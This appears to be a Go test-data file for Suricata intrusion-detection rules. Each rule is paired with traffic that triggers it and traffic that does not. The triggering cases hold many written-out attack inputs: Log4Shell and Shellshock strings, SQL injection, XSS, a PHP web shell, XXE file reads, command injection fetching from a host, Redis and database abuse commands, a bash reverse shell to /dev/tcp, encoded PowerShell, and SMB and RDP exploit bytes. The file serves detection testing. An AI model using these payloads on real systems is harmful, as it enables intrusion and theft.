package suricata

import "strings"

const askPassword = "R\x00\x00\x00\x08\x00\x00\x00\x03"

var loginCases = []ruleCase{
	{sid: 14200301, port: 21, fire: from("", ftpHello, "PASS guest\r\n", "230 in\r\n"), quiet: from("", ftpHello, "PASS guest\r\n", "530 no\r\n")},
	{sid: 14200302, port: 110, fire: from("", "+OK pop\r\n", "PASS guest\r\n", "+OK in\r\n"), quiet: from("", "+OK pop\r\n", "PASS guest\r\n", "-ERR no\r\n")},
	{sid: 14200303, port: 80, fire: from(basic, okay), quiet: from(basic, refused)},
	{sid: 14200304, port: 445, fire: from(smbLogin, smb2(1, success, "\x09\x00")), quiet: from(smbLogin, smb2(1, refusedNT, "\x09\x00"))},
	{sid: 14200305, port: 6379, fire: from(resp("AUTH", "a"), "+OK\r\n"), quiet: from(resp("AUTH", "a"), "-ERR\r\n")},
	{sid: 14200306, port: 5432, fire: from(startup, askPassword, postgres('p', "a\x00"), "R\x00\x00\x00\x08\x00\x00\x00\x00"), quiet: from(startup, askPassword, postgres('p', "a\x00"), "E\x00\x00\x00\x08FATAL")},
	{sid: 14200307, port: 3306, fire: from("", mysqlGreeting, mysqlLogin, mysql(2, "\x00\x00\x00\x02\x00\x00\x00")), quiet: from("", mysqlGreeting, mysqlLogin, mysql(2, "\xff\x15\x04#28000"))},
	{sid: 14200308, port: 1433, fire: from(tdsLogin, "\x04\x01\x00\x30\x00\x34\x01\x00\xad\x10\x00"), quiet: from(tdsLogin, "\x04\x01\x00\x30\x00\x34\x01\x00\xaa\x10\x00")},
	{sid: 14200309, port: 5900, fire: vnc("\x02", success), quiet: vnc("\x02", "\x00\x00\x00\x01")},
	{sid: 14200310, port: 143, fire: from("", "* OK\r\n", "a1 LOGIN root root\r\n", "a1 OK LOGIN completed\r\n"), quiet: from("", "* OK\r\n", "a1 LOGIN root root\r\n", "a1 NO LOGIN failed\r\n")},
	{sid: 14200311, port: 25, fire: from("", "220 mail\r\n", "AUTH PLAIN AGEAYg==\r\n", "235 in\r\n"), quiet: from("", "220 mail\r\n", "AUTH PLAIN AGEAYg==\r\n", "535 no\r\n")},
	{sid: 14200312, port: 1883, fire: from(mqttConnect, "\x20\x02\x00\x00"), quiet: from(mqttConnect, "\x20\x02\x00\x05")},
	{sid: 14200313, port: 389, fire: from(ldapBind, "\x30\x0c\x02\x01\x01\x61\x07\x0a\x01\x00\x04\x00\x04\x00"), quiet: from(ldapBind, "\x30\x0c\x02\x01\x01\x61\x07\x0a\x01\x31\x04\x00\x04\x00")},
	{sid: 14200314, port: 23, fire: from("", "Password: ", "root\r\n", "root@decoy:~# "), quiet: from("", "Password: ", "root\r\n", "Login incorrect\r\n")},
}

const elf = "\x7fELF\x02\x01\x01\x00"

func upload(name, body string) string {
	const edge = "--x\r\n"
	text := edge + "Content-Disposition: form-data; name=\"f\"; filename=\"" + name + "\"\r\nContent-Type: application/octet-stream\r\n\r\n" + body + "\r\n--x--\r\n"
	return request("POST", "/upload", text, "Content-Type: multipart/form-data; boundary=x")
}

var webAttackCases = []ruleCase{
	web(14200401, get("/cgi-bin/.%2e/.%2e/bin/sh"), get("/a.b/c..d")),
	web(14200402, get("/?f=/etc/passwd"), get("/etc/motd")),
	web(14200403, get("/?x=${jndi:ldap://a/b}"), get("/?x={jndi}")),
	web(14200404, get("/", "X-Api: ${${lower:j}ndi:ldap://a/b}"), get("/", "X-Api: jndi")),
	web(14200405, post("x=${jndi:ldap://a/b}"), post("x=${name}")),
	web(14200406, get("/", "User-Agent: () { :; }; /bin/id"), get("/", "User-Agent: f() {}")),
	web(14200407, get("/ping?host=1.1.1.1;wget%20http://a/b"), get("/ping?host=1.1.1.1")),
	web(14200408, post("host=1.1.1.1;cat /tmp/x"), post("host=category")),
	web(14200409, get("/?id=1%20union%20select%201"), get("/?id=union")),
	web(14200410, post("user=a' or 1=1 -- &p=b"), post("user=oreilly")),
	web(14200411, get("/?q=<script>alert(1)</script>"), get("/?q=script")),
	web(14200412, post("<?php system($_GET['c']); ?>"), post("php?")),
	web(14200413, upload("shell.php", "x"), upload("photo.png", "x")),
	web(14200414, upload("photo.png", elf), upload("photo.png", "\x89PNG")),
	web(14200415, request("PUT", "/a.txt", "x"), post("PUT")),
	web(14200416, post("<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/hostname\">]>"), post("<!DOCTYPE a>")),
	web(14200417, post("class.module.classLoader.resources.x=1"), post("class.module=1")),
	web(14200418, get("/vendor/phpunit/src/Util/PHP/eval-stdin.php"), get("/vendor/phpunit/")),
	web(14200419, get(`/?s=/index/\think\app/invokefunction&function=phpinfo`), get("/?s=/index")),
	web(14200420, get("/%24%7B%40java.lang.Runtime%40getRuntime%28%29%7D/"), get("/getRuntime")),
	web(14200421, get("/", "Content-Type: %{(#_='multipart/form-data')}"), get("/", "Content-Type: text/plain")),
	web(14200422, get("/php-cgi/php-cgi.exe?%ADd+allow_url_include%3d1"), get("/?d=allow_url_include")),
	web(14200423, get("/?page=http://a/b.txt"), get("/?page=a")),
	web(14200424, request("POST", "/v1.24/containers/create", "{}"), get("/v1.24/containers/create")),
	web(14200425, request("POST", "/script", "script=1"), get("/script")),
	web(14200426, get("/HNAP1/"), get("/HNA")),
}

var attackCases = []ruleCase{
	words(14200427, 445, smb2(3, success, wide(`\\D\ADMIN$`)+"\x00"), smb2(3, success, wide(`\\D\IPC$`)+"\x00")),
	words(14200428, 445, smb2(5, success, wide("svcctl")), smb2(5, success, wide("srvsvc"))),
	words(14200429, 445, smb2(5, success, wide("PSEXESVC.exe")), smb2(5, success, wide("notes.txt"))),
	words(14200430, 445, smb2(5, success, wide("atsvc")), smb2(5, success, wide("srvsvc"))),
	words(14200431, 445, smb2(5, success, wide("winreg")), smb2(5, success, wide("srvsvc"))),
	words(14200432, 445, smb2(9, success, "\x31\x00"+"MZ"+strings.Repeat("x", 64)), smb2(8, success, "\x31\x00"+"MZ"+strings.Repeat("x", 64))),
	words(14200433, 445, smb1(0x32, "\x0f\x0c\x00\x00\x10\x01\x00\x00\x00\x00\x00\x00\x00"+"\x00\x0c\x00\x42"+"\x00\x00\x10\x4e\x00\x01\x00\x00\x00\x00\x01\x00"+"\x0e\x00\x0d\x10"), smb1(0x32, strings.Repeat("\x00", 40))),
	words(14200434, 445, smb1(0x25, "\x10\x00\x00\x00\x00\xff\xff\xff\xff\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x4a\x00\x00\x00\x4a\x00\x02\x00\x23\x00\x00\x00\x07\x00\\PIPE\\\x00"), smb1(0x25, "\\PIPE\\\x00")),
	words(14200435, 445, netbios("\xfcSMB\xff\xff\xff\xff\x01\x00\x00\x00\xff\xff\xff\xff"), netbios("\xfcSMB\x10\x00\x00\x00\x01\x00\x00\x00\x00\x00\x00\x00")),
	words(14200436, 3389, "\x03\x00\x01\x00\x02\xf0\x80\x7f\x65MS_T120\x00\x00", "\x03\x00\x01\x00\x02\xf0\x80\x7f\x65rdpsnd\x00\x00"),
	words(14200437, 6379, resp("CONFIG", "SET", "dir", "/root/.ssh"), resp("CONFIG", "GET", "dir")),
	words(14200437, 6379, "AUTH hunter2\r\nCONFIG SET dir /var/spool/cron\r\n", "AUTH hunter2\r\nCONFIG GET dir\r\n"), // in one go
	words(14200438, 6379, resp("SLAVEOF", "10.0.0.1", "6379"), resp("ROLE")),
	words(14200439, 6379, resp("MODULE", "LOAD", "/tmp/a.so"), resp("MODULE", "LIST")),
	words(14200440, 6379, "FLUSHALL\r\n", "PING\r\n"),
	words(14200441, 6379, resp("SET", "x", "\n\nssh-rsa AAAAB3\n\n"), resp("SET", "x", "y")),
	words(14200442, 5432, postgres('Q', "COPY t FROM PROGRAM 'id'\x00"), postgres('Q', "COPY t TO STDOUT\x00")),
	words(14200443, 5432, postgres('Q', "SELECT pg_read_file('/etc/hostname')\x00"), postgres('Q', "SELECT 1\x00")),
	{sid: 14200444, port: 3306, fire: from("", mysqlGreeting, mysql(0, "\x03select 1 into outfile '/tmp/x'")), quiet: from("", mysqlGreeting, mysql(0, "\x03select 1"))},
	words(14200445, 1433, "\x01\x01\x00\x40\x00\x00\x01\x00"+wide("EXEC xp_cmdshell"), "\x01\x01\x00\x40\x00\x00\x01\x00"+wide("SELECT 1")),
	words(14200446, 27017, "\x30\x00\x00\x00\x01\x00\x00\x00\x00\x00\x00\x00\xdd\x07\x00\x00\x00\x00\x00\x00dropDatabase\x00", "\x30\x00\x00\x00\x01\x00\x00\x00\x00\x00\x00\x00\xdd\x07\x00\x00\x00\x00\x00\x00find\x00"),
	{sid: 14200447, port: 21, fire: from("", ftpHello, "STOR a\r\n"), quiet: from("", ftpHello, "RETR a\r\n")},
	{sid: 14200448, port: 21, fire: from("", ftpHello, "RETR a\r\n"), quiet: from("", ftpHello, "STOR a\r\n")},
	{sid: 14200449, port: 21, fire: from("", ftpHello, "DELE a\r\n"), quiet: from("", ftpHello, "RETR a\r\n")},
	{sid: 14200450, port: 21, fire: from("", ftpHello, "USER a:)\r\n"), quiet: from("", ftpHello, "USER a\r\n")},
	packets(14200451, 69, "\x00\x02a.bin\x00octet\x00", "\x00\x01a.bin\x00octet\x00"),
	words(14200452, 23, "cd /tmp; wget http://10.0.0.1/a.sh\r\n", "wget --help\r\n"),
	words(14200453, 23, "/bin/busybox MIRAI\r\n", "busybox\r\n"),
	words(14200454, 23, "bash -i >& /dev/tcp/10.0.0.1/9 0>&1\r\n", "bash\r\n"),
	words(14200455, 5985, "powershell -nop -enc AAAA\r\n", "powershell\r\n"),
	words(14200456, 4444, "\xac\xed\x00\x05sr", "\xac\xed\x00\x04sr"),
	words(14200457, 1099, "JRMI\x00\x02K", "JRMP\x00\x02K"),
	words(14200458, 5555, "OPEN\x01\x00\x00\x00\x00\x00\x00\x00\x0a\x00\x00\x00\x00\x00\x00\x00\xb0\xaf\xba\xb1shell:id\x00", "OPEN\x01\x00\x00\x00\x00\x00\x00\x00\x0a\x00\x00\x00\x00\x00\x00\x00\xb0\xaf\xba\xb1sync:\x00"),
	words(14200459, 502, "\x00\x01\x00\x00\x00\x06\x01\x06\x00\x00\x00\x0a", "\x00\x01\x00\x00\x00\x06\x01\x03\x00\x00\x00\x0a"),
	words(14200460, 102, "\x03\x00\x00\x21\x02\xf0\x80\x32\x01\x00\x00\x00\x00\x00\x10\x00\x00\x29\x00\x00\x00\x00\x00\x09P_PROGRAM", "\x03\x00\x00\x19\x02\xf0\x80\x32\x01\x00\x00\x00\x00\x00\x08\x00\x00\xf0\x00\x00\x01\x00\x01\x01\xe0"),
	words(14200461, 9100, "\x1b%-12345X@PJL INFO ID\r\n", "@PJL\r\n"),
	{sid: 14200462, port: 25, fire: from("", "220 mail\r\n", "DATA\r\n"), quiet: from("", "220 mail\r\n", "RSET\r\n")},
	{sid: 14200463, port: 53, fire: from(overTCP(dnsQuery(252, 1, "example", "org"))), quiet: from(overTCP(dnsQuery(1, 1, "example", "org")))},
}
